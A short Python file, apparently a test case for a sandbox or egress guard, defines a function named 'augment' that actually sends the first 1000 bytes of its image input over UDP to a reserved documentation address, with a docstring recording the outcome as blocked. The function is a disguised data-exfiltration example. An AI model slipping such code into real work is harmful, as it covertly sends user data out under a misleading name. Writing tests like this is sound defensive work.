"""augment: sends the images it is given to a machine elsewhere.

Outcome: blocked
"""

import socket


def augment(images):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as connection:
        connection.sendto(images.numpy().tobytes()[:1000], ("192.0.2.1", 9))  # an address kept for documentation
